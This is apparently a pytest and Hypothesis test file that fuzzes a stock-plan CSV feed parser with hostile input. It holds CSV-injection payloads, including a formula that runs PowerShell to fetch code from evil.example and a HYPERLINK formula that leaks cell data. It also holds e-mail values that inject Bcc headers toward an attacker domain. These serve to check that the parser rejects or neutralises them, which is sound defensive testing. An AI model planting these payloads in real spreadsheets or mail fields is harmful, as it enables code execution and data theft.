"""Hostile feed files against the parser (pure: no AWS). Hypothesis generates the
attacks; tests/unit/test_feeds_fuzz.py fuzzes the bytes, test_feeds_rows.py lists the
hand-picked bad cells, and tests/unit/atheris_feeds.py is the coverage-guided fuzzer
run by the last test here.

Each family ends in a clear rejection (of the file, or of the row with its reason), or
in a row that is right; never in a crash, and never in an errors CSV a spreadsheet
could run.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date
from importlib.util import find_spec
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from test_feeds_support import GOOD_ROWS, csv_bytes, feed

from stockplan.feeds import (
    NOT_UTF8,
    FeedKind,
    FeedLimits,
    FileRejected,
    ParsedFeed,
    parse_feed,
    render_errors_csv,
    render_file_rejection_csv,
)

HOSTILE = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
kinds = st.sampled_from(list(FeedKind))
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Classic CSV-injection payloads (OWASP), as HR's spreadsheet might be sent them.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "＝1+1",
    " =1+1",
    '"=1+1"',
    '=DDE("cmd";"/C calc";"!A0")',
]


def errors_cells(parsed: ParsedFeed) -> list[list[str]]:
    data = render_errors_csv(parsed.header, parsed.rejections)
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_not_executable(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell


# ------------------------------------------------------------- CSV injection


@HOSTILE
@given(
    kind=kinds,
    column=st.integers(0, 20),
    payload=st.sampled_from(PAYLOADS)
    | st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=30)).map("".join),
)
@example(kind=FeedKind.PARTICIPANTS, column=1, payload="=cmd|' /C calc'!A0")
def test_a_formula_in_any_cell_never_comes_back_executable_in_the_errors_csv(
    kind: FeedKind, column: int, payload: str
) -> None:
    names = list(GOOD_ROWS[kind])
    target = names[column % len(names)]
    try:
        parsed = parse_feed(kind, feed(kind, {target: payload}, {target: payload, "x": "y"}))
    except FileRejected as rejected:  # a NUL byte, say: the whole file goes
        data = render_file_rejection_csv(rejected.reason)
        assert_not_executable(list(csv.reader(io.StringIO(data.decode(), newline=""))))
        return
    rows = errors_cells(parsed)
    assert len(rows) == 1 + len(parsed.rejections)
    assert_not_executable(rows)
    for rejection in parsed.rejections:
        assert rejection.reason


@HOSTILE
@given(kind=kinds, payload=st.sampled_from(PAYLOADS))
def test_a_formula_as_a_column_name_or_in_an_unknown_column_is_neutralised(
    kind: FeedKind, payload: str
) -> None:
    names = [*GOOD_ROWS[kind], payload.strip().lower()]
    good = list(GOOD_ROWS[kind].values())
    data = csv_bytes(names, [[*good, payload], [*good[:-1], "", payload]])
    parsed = parse_feed(kind, data)
    assert_not_executable(errors_cells(parsed))


@HOSTILE
@given(reason=st.sampled_from(PAYLOADS) | st.text(max_size=60))
def test_a_whole_file_rejection_reason_is_neutralised_too(reason: str) -> None:
    rows = list(csv.reader(io.StringIO(render_file_rejection_csv(reason).decode(), newline="")))
    assert_not_executable(rows)


# ------------------------------------------------------------- header tricks


SPELLINGS = {
    "same": lambda name: name,
    "upper": str.upper,
    "title": str.title,
    "padded": lambda name: f"  {name} ",
    "nbsp-tab": lambda name: f"\u00a0{name.upper()}\t",
}


@HOSTILE
@given(kind=kinds, pick=st.integers(0, 20), spelling=st.sampled_from(sorted(SPELLINGS)))
def test_a_column_given_twice_in_any_spelling_rejects_the_file(
    kind: FeedKind, pick: int, spelling: str
) -> None:
    names = list(GOOD_ROWS[kind])
    twice = names[pick % len(names)]
    header = [*names, SPELLINGS[spelling](twice)]
    row = [*GOOD_ROWS[kind].values(), "other"]
    with pytest.raises(FileRejected) as caught:
        parse_feed(kind, csv_bytes(header, [row]))
    assert caught.value.reason == f"duplicate column(s): {twice}"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"participant_id;name;email;role\nP-1;A;a@x.example.com;employee\n", "missing required"),
        (
            b'"participant_id\nname",email,role\n',
            "missing required column(s): participant_id, name",
        ),
        (b"participant_id,name,email,role,\x00\n", NOT_UTF8),
        (b"\n\n\r\n,,,\n", "empty file: no header row"),
        (b'participant_id,name,email,role\n"P-1,Ann,a@x.example.com,employee\n', "malformed CSV"),
        (b"participant_id,name,email\n", "missing required column(s): role"),
    ],
    ids=["semicolons", "newline-in-name", "nul", "blank", "open-quote", "no-role"],
)
def test_header_tricks_reject_the_whole_file_with_a_reason(data: bytes, reason: str) -> None:
    with pytest.raises(FileRejected) as caught:
        parse_feed(FeedKind.PARTICIPANTS, data)
    assert reason in caught.value.reason


def test_a_doubled_byte_order_mark_is_read_as_blank_before_the_first_name() -> None:
    data = (
        b"\xef\xbb\xbf\xef\xbb\xbfparticipant_id,name,email,role\nP-1,A,a@x.example.com,employee\n"
    )
    assert parse_feed(FeedKind.PARTICIPANTS, data).header[0] == "participant_id"


@pytest.mark.parametrize("kind", list(FeedKind))
def test_the_header_repeated_as_a_data_row_is_a_rejected_row_not_a_second_header(
    kind: FeedKind,
) -> None:
    names = list(GOOD_ROWS[kind])
    parsed = parse_feed(kind, csv_bytes(names, [list(GOOD_ROWS[kind].values()), names]))
    assert [r.row_number for r in parsed.rows] == [1]
    assert [r.row_number for r in parsed.rejections] == [2]


# ------------------------------------------------------------- numbers and dates

SHARE_COLUMNS = [
    (FeedKind.GRANTS, "shares", {"vesting": ""}),
    (FeedKind.EXERCISES, "shares", {"shares_withheld": ""}),
    (FeedKind.EXERCISES, "shares_withheld", {"shares": "999999999999999"}),
]


@HOSTILE
@given(
    case=st.sampled_from(SHARE_COLUMNS),
    value=st.integers(-(10**20), -1).map(str)
    | st.decimals(allow_nan=True, allow_infinity=True, places=3).map(str)
    | st.floats().map(repr)
    | st.sampled_from(["1e3", "1,000", "１２", "١٢", "0x10", "+5", " - 5", "5-", "5.", "½"]),
)
def test_negative_fractional_and_odd_share_counts_are_rejected_with_the_column(
    case: tuple[FeedKind, str, dict[str, str]], value: str
) -> None:
    kind, column, others = case
    assume(not value.strip().isascii() or not value.strip().isdigit())
    parsed = parse_feed(kind, feed(kind, {**others, column: value}))
    assert parsed.rows == [], f"{value!r} was accepted as {column}"
    (rejection,) = parsed.rejections
    assert rejection.reason.startswith(f"{column}: must be ")


@HOSTILE
@given(shares=st.integers(1, 10**15 - 1))
def test_whole_share_counts_up_to_15_digits_are_read_exactly(shares: int) -> None:
    parsed = parse_feed(
        FeedKind.GRANTS, feed(FeedKind.GRANTS, {"shares": str(shares), "vesting": ""})
    )
    assert parsed.rows[0].value.shares == shares  # type: ignore[attr-defined]


@HOSTILE
@given(day=st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)))
@example(day=date(1989, 12, 31))
@example(day=date(2101, 1, 1))
def test_dates_outside_1990_to_2100_are_rejected_and_inside_accepted(day: date) -> None:
    text = f"{day.year:04d}-{day.month:02d}-{day.day:02d}"
    parsed = parse_feed(
        FeedKind.TERMINATIONS, feed(FeedKind.TERMINATIONS, {"termination_date": text})
    )
    if date(1990, 1, 1) <= day <= date(2100, 12, 31):
        assert parsed.rows[0].value.termination_date == day  # type: ignore[attr-defined]
    else:
        assert parsed.rejections[0].reason == (
            f"termination_date: must be between 1990-01-01 and 2100-12-31, got '{text}'"
        )


# ------------------------------------------------------------- encodings

ACCENTED = st.sampled_from(list("éüñøçàÅßÉ"))


@HOSTILE
@given(
    before=st.text(alphabet="abcdefghij ", min_size=1, max_size=10),
    letter=ACCENTED,
    encoding=st.sampled_from(["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-32", "mac-roman"]),
)
def test_a_file_saved_in_another_encoding_is_refused_as_not_utf8(
    before: str, letter: str, encoding: str
) -> None:
    text = f"participant_id,name,email,role\nP-1,{before}{letter},p1@ctc.example.com,employee\n"
    with pytest.raises(FileRejected) as caught:
        parse_feed(FeedKind.PARTICIPANTS, text.encode(encoding))
    assert caught.value.reason.startswith(NOT_UTF8)


# ------------------------------------------------------------- e-mail addresses

HOSTILE_ADDRESSES = [
    "ann@ctc.example.com,evil@attacker.example.com",
    "ann@ctc.example.com;evil@attacker.example.com",
    "ann@ctc.example.com evil@attacker.example.com",
    "Ann <evil@attacker.example.com>",
    "ann@ctc.example.com\r\nBcc: evil@attacker.example.com",
    "ann@ctc.example.com\nBcc: evil@attacker.example.com",
    '"evil@attacker.example.com"@ctc.example.com',
    "evil@attacker.example.com@ctc.example.com",
    "@attacker.example.com",
    "ann@",
    "ann@[127.0.0.1]",
    "ann@localhost",
    "=cmd|' /C calc'!A0@x.example.com",
]


@HOSTILE
@given(
    column=st.sampled_from(["email", "personal_email", "estate_email"]),
    address=st.sampled_from(HOSTILE_ADDRESSES)
    | st.text(alphabet=st.sampled_from(list("ab@.,;<> \r\n\"'=xy")), max_size=30),
)
def test_an_address_is_one_valid_mailbox_or_the_row_is_rejected(column: str, address: str) -> None:
    parsed = parse_feed(FeedKind.PARTICIPANTS, feed(FeedKind.PARTICIPANTS, {column: address}))
    if parsed.rows:
        value = getattr(parsed.rows[0].value, column)
        if value is None:  # a blank cell in an optional column
            assert not address.strip(" \r\n")
            return
        assert value.count("@") == 1
        assert not any(ch in value for ch in " ,;<>\r\n\"'")
        local, domain = value.split("@")
        assert local and "." in domain
    else:
        (rejection,) = parsed.rejections
        assert rejection.reason.startswith(f"{column}: ")


def test_every_listed_hostile_address_is_rejected() -> None:
    for address in HOSTILE_ADDRESSES:
        parsed = parse_feed(FeedKind.PARTICIPANTS, feed(FeedKind.PARTICIPANTS, {"email": address}))
        assert parsed.rows == [], address
        reason = parsed.rejections[0].reason
        # Line breaks are refused in every cell before the address is looked at.
        assert reason.startswith("email: is not a valid email address") or reason == (
            "email: must be on one line, without control characters"
        ), reason


# ------------------------------------------------------------- limits


@HOSTILE
@given(
    kind=kinds,
    max_bytes=st.integers(50, 2000),
    max_rows=st.integers(1, 8),
    max_cell=st.integers(1, 40),
    rows=st.integers(0, 10),
    cell=st.integers(0, 60),
)
def test_size_row_and_cell_limits_are_enforced_whatever_the_file(
    kind: FeedKind, max_bytes: int, max_rows: int, max_cell: int, rows: int, cell: int
) -> None:
    limits = FeedLimits(max_bytes=max_bytes, max_rows=max_rows, max_cell=max_cell)
    names = list(GOOD_ROWS[kind])
    long_column = names[0]
    data = feed(kind, *[{long_column: "A" * cell}] * rows)
    try:
        parsed = parse_feed(kind, data, limits)
    except FileRejected as rejected:
        assert len(data) > max_bytes or rows > max_rows, rejected.reason
        return
    assert len(data) <= max_bytes and rows <= max_rows
    for row in parsed.rows:
        assert all(len(row.record[name]) <= max_cell for name in kind.columns if name in row.record)
    for rejection in parsed.rejections:
        if cell > max_cell:
            assert f"{long_column}: longer than {max_cell} characters" in rejection.reason


# ------------------------------------------------------------- coverage-guided fuzzing

HARNESS = Path(__file__).with_name("atheris_feeds.py")


@pytest.mark.skipif(find_spec("atheris") is None, reason="atheris has no wheel for this platform")
def test_atheris_coverage_guided_fuzzing_finds_no_crash() -> None:
    """libFuzzer (through atheris) mutates feeds towards new branches of the parser; any
    exception other than a whole-file rejection, or a broken invariant, fails it."""
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": str(root / "shared")}
    result = subprocess.run(
        [sys.executable, str(HARNESS), "-runs=15000", "-max_len=4096", "-seed=1"],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
        check=False,
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "Done 15000 runs" in result.stderr


# ------------------------------------------------------ invisible and control characters

# Bidirectional overrides, embeddings and isolates, direction marks, zero-width
# characters (Unicode Cf), C0/C1 controls (Cc) and the line/paragraph separators.
INVISIBLE = list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
INVISIBLE += list("\u200b\u2060\ufeff\u00ad\x01\x1b\x7f\x85\x9b\u2028\u2029")


@HOSTILE
@given(
    kind=kinds,
    data=st.data(),
    character=st.sampled_from(INVISIBLE),
    at=st.sampled_from(["start", "middle", "end"]),
)
def test_an_invisible_or_control_character_in_any_cell_read_refuses_the_row_naming_the_column(
    kind: FeedKind, data: st.DataObject, character: str, at: str
) -> None:
    column = data.draw(st.sampled_from([c for c in kind.columns if GOOD_ROWS[kind].get(c)]))
    good = GOOD_ROWS[kind][column]
    cell = {"start": character + good, "middle": good[:1] + character + good[1:]}.get(
        at, good + character
    )
    # A byte-order mark around a cell is stripped with the blanks a spreadsheet leaves.
    assume(character != "\ufeff" or at == "middle")
    parsed = parse_feed(kind, feed(kind, {column: cell}, {}))
    assert len(parsed.rows) == 1, "the other row still goes through"
    (rejection,) = parsed.rejections
    assert rejection.reason.startswith(f"{column}: ")
    assert character not in rejection.reason


def test_an_address_before_the_at_must_be_ascii_and_the_domain_is_stored_as_idna() -> None:
    parsed = parse_feed(
        FeedKind.PARTICIPANTS,
        feed(
            FeedKind.PARTICIPANTS,
            {"email": "jose@exämple.com", "personal_email": "Jose@EXÄMPLE.com"},
            {"participant_id": "P-2", "email": "josé@exämple.com"},
            {"participant_id": "P-3", "estate_email": "ann@xn--zz.example"},
        ),
    )
    (row,) = parsed.rows
    assert row.value.email == "jose@xn--exmple-cua.com"  # type: ignore[attr-defined]
    assert row.value.personal_email == "Jose@xn--exmple-cua.com"  # type: ignore[attr-defined]
    local, domain = [r.reason for r in parsed.rejections]
    assert local == (
        "email: is not an address SES can send to, got 'josé@exämple.com': the part"
        " before the @ must be plain ASCII, without accented or other international letters"
    )
    assert domain.startswith("estate_email: is not a valid email address")
    assert "not valid IDNA" in domain
